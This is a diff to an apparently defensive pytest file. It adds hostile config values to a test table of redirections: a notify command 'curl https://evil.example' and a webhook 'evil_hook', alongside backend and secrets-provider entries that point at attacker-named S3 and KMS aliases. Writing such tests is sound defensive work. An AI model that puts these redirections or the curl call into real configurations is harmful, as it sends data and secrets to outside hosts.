@@ -20,6 +20,8 @@ REDIRECTING = {
     ("engine", "backend"): "s3://evil?region=us-east-1",
     ("engine", "passphrase_file"): "planted",
     ("engine", "secrets_provider"): "awskms://alias/evil",
+    ("notify", "webhook"): "evil_hook",
+    ("notify", "command"): "curl https://evil.example",
 }
 EACH = pytest.mark.parametrize("path", CONFIRMED, ids=".".join)
 
